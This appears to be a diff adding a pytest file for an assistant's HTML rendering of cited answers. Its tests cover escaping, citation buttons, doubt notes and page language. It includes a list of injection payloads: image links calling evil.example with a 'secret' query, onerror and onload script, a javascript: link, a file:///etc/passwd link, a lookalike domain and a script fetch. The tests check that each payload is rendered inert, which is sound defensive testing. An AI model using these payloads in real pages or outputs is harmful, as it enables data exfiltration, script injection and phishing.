@@ -1,0 +1,131 @@
+"""What an answer looks like as HTML, and what it can never become."""
+
+import re
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+
+from assistant import Answer, Citation, Statement, Support
+from assistant.ui.strings import preferred, strings
+from assistant.ui.views import turn
+from index import LANGUAGES, Hit
+
+EN = strings("en")
+ANSWER = Answer(
+    question="What did it cost?",
+    text="It cost 12 million [1]. Tom built it [1].",
+    language="en",
+    declined=False,
+    statements=(
+        Statement("It cost 12 million.", ("1",), Support("supported")),
+        Statement("Tom built it.", ("1",), Support("unsupported", ("the quote has no “Tom”",))),
+    ),
+    citations=(Citation("1", "bridge.txt", 0, 18, "It cost 12 million", 1),),
+)
+ATTACKS = {
+    "G02-markdown": "![x](https://evil.example/?q=secret)",
+    "G02-reference": "![x][y]\n\n[y]: https://evil.example/x.png",
+    "G02-html": "<img src=https://evil.example/x.png onerror=alert(1)>",
+    "G02-svg": "<svg onload=alert(1)><image href='https://evil.example'/></svg>",
+    "G02-css": "<div style=\"background:url('https://evil.example')\">",
+    "G02-srcset": "<picture><source srcset='https://evil.example 1x'></picture>",
+    "G02-autolink": "<https://evil.example/?q=secret> https://evil.example",
+    "G02-data": "<iframe src='data:text/html,<script>1</script>'>",
+    "G03-javascript": "[click](javascript:alert(1))",
+    "G03-file": "[click](file:///etc/passwd) [a](vbscript:x) [b](data:text/html,x)",
+    "G03-idn": "[bank](https://xn--bnk-5na.example)",
+    "H04-script": "<script>fetch('https://evil.example')</script>",
+    "H04-latex": "$$\\href{https://evil.example}{x}$$ <math><mtext></math>",
+}
+
+
+class Tags(HTMLParser):
+    """Collects what a browser would make of a page."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.tags, self.attributes, self.words = [], [], ""
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += [name for name, _ in attrs]
+
+    def handle_data(self, data):
+        self.words += data
+
+
+@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS)
+@pytest.mark.parametrize("place", ["text", "question", "notes", "nearest", "reason", "asked"])
+def test_what_is_said_is_text_and_nothing_else(payload, place):
+    answer = {
+        "text": replace(ANSWER, text=payload, statements=()),
+        "question": replace(ANSWER, question=payload),
+        "notes": replace(ANSWER, notes=(payload,)),
+        "asked": replace(ANSWER, asked=payload),
+        "nearest": replace(
+            ANSWER, declined=True, nearest=(Hit(payload, 0, 1, payload, 1.0, title=payload),)
+        ),
+        "reason": replace(
+            ANSWER,
+            statements=(Statement("Tom built it.", ("1",), Support("unsupported", (payload,))),),
+        ),
+    }[place]
+    page = Tags(turn(answer, EN))
+    assert not {"img", "script", "a", "iframe", "image", "style", "picture"} & set(page.tags)
+    assert not [name for name in page.attributes if name.startswith("on") or name == "href"]
+    assert payload.split("\n")[0] in page.words
+
+
+def test_only_citations_of_the_answer_become_buttons():
+    page = turn(replace(ANSWER, text="It cost 12 million [1]. Tom [7] built [x] it."), EN)
+    assert re.findall(r'class="cite" data-label="(\d+)"', page) == ["1"]
+    assert "[7]" in page
+
+
+def test_a_doubtful_statement_says_why_and_a_supported_one_says_nothing():
+    page = turn(ANSWER, EN)
+    assert page.count('class="doubt') == 1
+    doubt = page[page.index('class="doubt') :]
+    assert "the quote has no “Tom”" in doubt
+    assert 'aria-expanded="false"' in doubt
+    assert "1 of 2 statements supported" in page
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_H15_the_answer_keeps_its_language_whatever_the_page_speaks(language):
+    page = turn(replace(ANSWER, language="de"), strings(language))
+    assert 'class="answer" lang="de"' in page
+
+
+def test_a_note_with_two_readings_shows_that_sources_differ():
+    note = "The sources differ: “12 million” in a.txt, “15 million” in b.txt."
+    assert "The sources differ</b>" in turn(replace(ANSWER, notes=(note,)), EN)
+    assert 'class="note sides"' not in turn(replace(ANSWER, notes=("It was cut.",)), EN)
+
+
+def test_words_that_are_gone_are_said_to_be_gone():
+    assert "[1] The document has changed" in turn(ANSWER, EN, gone=["1"])
+
+
+def test_every_string_is_said_in_all_four_languages_with_the_same_places_to_fill():
+    tables = [strings(language) for language in LANGUAGES]
+    for key in tables[0]:
+        places = [sorted(set(re.findall(r"\{(\w+)\}", table[key]))) for table in tables]
+        assert all(table[key] for table in tables)
+        assert all(place == places[0] for place in places), key
+
+
+@pytest.mark.parametrize(
+    ("header", "language"),
+    [
+        ("fr-CH, fr;q=0.9, en;q=0.8", "fr"),
+        ("es, it;q=0.5, de;q=0.7", "de"),
+        ("pt-BR", "en"),
+        ("", "en"),
+        ("en;q=x, it", "it"),
+    ],
+)
+def test_H15_the_page_speaks_what_the_browser_reads_first(header, language):
+    assert preferred(header) == language
